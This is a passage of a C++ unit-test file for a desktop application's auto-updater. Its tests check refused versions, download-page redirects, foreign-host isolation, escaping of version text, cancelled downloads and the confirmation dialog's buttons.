    const QStringList told = c.accepted ? QStringList{offerLine, alertLine} : QStringList();
    EXPECT_EQ(fDialogs.asked(), told);
    if (!c.accepted) {
      EXPECT_TRUE(downloads().empty());
    }
    EXPECT_TRUE(foreign.received().empty());
    EXPECT_TRUE(desktopFiles().isEmpty()) << desktopFiles().join(", ").toStdString();
    EXPECT_TRUE(fWorkspace.requests().isEmpty()) << fWorkspace.requests().join(", ").toStdString();
    EXPECT_FALSE(fUpdater->updateDownloaded());
    ASSERT_EQ(warnings.lines().size(), 1) << warnings.lines().join("\n").toStdString();
    EXPECT_TRUE(warnings.lines().front().contains(QString(" ") + c.version + " refused"));
    EXPECT_TRUE(warnings.lines().front().contains(c.why)) << warnings.lines().front().toStdString();

    // The same offer again: neither asked nor fetched.
    fServer.clearReceived();
    fDialogs.clearAsked();
    check();
    EXPECT_TRUE(fDialogs.asked().isEmpty());
    EXPECT_TRUE(downloads().empty());
  }

  // Remembered across a restart.
  makeUpdater();
  fServer.answer("GET", CheckPath, 200, "text/xml",
                 checkAnswer("2.0.7", fileUrl("/files/script.deb"), "0", "1", sha256Hex(script)));
  check();
  EXPECT_TRUE(fDialogs.asked().isEmpty());
  EXPECT_TRUE(downloads().empty());

  // Another version is still offered, and a sound one is kept.
  offer("3.0", "/files/Setup.deb");
  check();
  EXPECT_EQ(fDialogs.asked(), QStringList{offerLine});
  EXPECT_TRUE(fUpdater->updateDownloaded());
  EXPECT_EQ(desktopFiles(), QStringList{"Setup.deb"});
  EXPECT_EQ(fWorkspace.requests(), QStringList{"revealFile " + fDesktop + "/Setup.deb"});
  EXPECT_TRUE(foreign.received().empty());
}

TEST_F(UpdaterExchange, AnInstalledPackageIsUpdatedThroughTheDownloadPage) {
  fPackageInstall = true;
  fDesktopPath = fDesktop;
  ServiceTestServer foreign(ServiceTestServer::Foreign);
  serve("/files/Setup.deb", debPackage());
  const QString page = fServer.url(ZUpdater::DownloadPagePath);

  const struct {
    const char *required;
    const char *answer;
    const char *messageKey;
    std::string url;
  } cases[] = {
      {"0", "0", "upgradePackageNotificationAlertMessage", fileUrl("/files/Setup.deb")},
      {"1", "1", "upgradeRequiredPackageNotificationAlertMessage", fileUrl("/files/Setup.deb")},
      // What the answer names plays no part, not even another host.
      {"0", "1", "upgradePackageNotificationAlertMessage",
       foreign.url("/files/Setup.deb").toStdString()},
  };
  for (const auto &c : cases) {
    SCOPED_TRACE(std::string("required ") + c.required + ", answer " + c.answer + ", " + c.url);
    fServer.clearReceived();
    fDialogs.clearAsked();
    fWorkspace.clear();
    fDialogs.setAnswer("update", c.answer);
    makeUpdater();
    fServer.answer("GET", CheckPath, 200, "text/xml",
                   checkAnswer("2.1.0", c.url, c.required, "1", ""));
    check();
    const QString message = localizedFormat(c.messageKey, {QStringLiteral("2.1.0")});
    EXPECT_TRUE(message.contains("2.1.0"));
    EXPECT_EQ(fDialogs.asked(), QStringList{"update " + message});
    EXPECT_TRUE(downloads().empty());
    EXPECT_TRUE(foreign.received().empty());
    EXPECT_TRUE(desktopFiles().isEmpty());
    if (QByteArray(c.answer) == "1") {
      EXPECT_EQ(fWorkspace.requests(), QStringList{"openURL " + page});
      EXPECT_TRUE(fUpdater->updateDownloaded());
    } else {
      EXPECT_TRUE(fWorkspace.requests().isEmpty());
      EXPECT_FALSE(fUpdater->updateDownloaded());
      check();
      EXPECT_EQ(fDialogs.asked().size(), 2);
    }
  }

  // A version text is shown as plain letters, digits and dots.
  fDialogs.clearAsked();
  fDialogs.setAnswer("update", "0");
  fServer.answer("GET", CheckPath, 200, "text/xml",
                 checkAnswer("9.0&lt;b&gt;&lt;a href=&apos;x&apos;&gt;", fileUrl("/x"), "0", "1", ""));
  check();
  ASSERT_EQ(fDialogs.asked().size(), 1);
  EXPECT_FALSE(fDialogs.asked().front().contains(u'<'));
  EXPECT_TRUE(fDialogs.asked().front().contains("9.0bahrefx"));
}

// Dialogs that, while the offer is on screen, let the hourly tick fire.
class TickingDialogs : public ScriptedDialogs {
 public:
  std::function<void()> whileAsking;
  int askUpdate(const QString &message) override {
    if (whileAsking) whileAsking();
    return ScriptedDialogs::askUpdate(message);
  }
};

TEST_F(UpdaterExchange, NoSecondCheckWhileTheOfferIsShown) {
  fDesktopPath = fDesktop;
  TickingDialogs dialogs;
  ZUpdater updater(parts(dialogs));
  bool checkingDuringOffer = true;
  dialogs.whileAsking = [&] {
    updater.checkForUpdate();
    checkingDuringOffer = updater.isChecking();
  };
  offer("2.0", "/files/Setup.deb");
  updater.checkForUpdate();
  ASSERT_TRUE(TestEnvironment::waitFor([&] { return !updater.isChecking(); }, 20000));
  EXPECT_EQ(dialogs.asked().size(), 1);
  EXPECT_FALSE(checkingDuringOffer);
  EXPECT_EQ(fServer.received(CheckPath).size(), 1u);
}

TEST_F(UpdaterExchange, CancellingADownloadRemovesItsPartialFile) {
  fDesktopPath = fDesktop;
  // Every piece begins like a package; only the first is looked at.
  const std::string content = debPackage(fileContent(64 * 1024));
  fServer.on("GET", "/files/endless.deb",
             [content](const httplib::Request &, httplib::Response &response) {
               response.set_content_provider(
                   100 * content.size(), "application/octet-stream",
                   [content](size_t, size_t, httplib::DataSink &sink) {
                     std::this_thread::sleep_for(std::chrono::milliseconds(20));
                     return sink.write(content.data(), content.size());
                   });
             });
  fUpdater->downloadUpdateFromUrl(fServer.url("/files/endless.deb"), AnyChecksum);
  ASSERT_TRUE(TestEnvironment::waitFor([this] { return !desktopFiles().isEmpty(); }, 20000));
  // The file is made at its announced length at once.
  EXPECT_EQ(QFileInfo(fDesktop + "/endless.deb").size(), qint64(100 * content.size()));
  fUpdater->cleanUpConnection();
  EXPECT_FALSE(fUpdater->isDownloading());
  EXPECT_TRUE(desktopFiles().isEmpty());
  EXPECT_FALSE(fUpdater->updateDownloaded());
}

// --- the offer on screen -----------------------------------------------------

TEST(UpdateOfferDialog, YesAndNoOnTheConfirmationWindow) {
  for (const char *button : {"delete", "cancel"}) {
    SkinnedDialogs dialogs;
    QString shown, yes, no;
    bool boxVisible = true;
    QTimer::singleShot(0, [&] {
      QWidget *window = QApplication::activeModalWidget();
      ASSERT_NE(window, nullptr);
      shown = window->objectName();
      yes = window->findChild<QPushButton *>("delete")->text();
      no = window->findChild<QPushButton *>("cancel")->text();
      boxVisible = window->findChild<QCheckBox *>("fDontShowDialogOptionButton")->isVisible();
      window->findChild<QPushButton *>(button)->click();
    });
    const int code = dialogs.askUpdate("A new version");
    EXPECT_EQ(code, QByteArray(button) == "delete" ? 1 : 0) << button;
    EXPECT_EQ(shown, "DeleteDialog");
    EXPECT_EQ(yes, localized("buttonYes"));
    EXPECT_EQ(no, localized("buttonNo"));
    EXPECT_NE(yes, "buttonYes");
    EXPECT_FALSE(boxVisible);
  }
}

}  // namespace
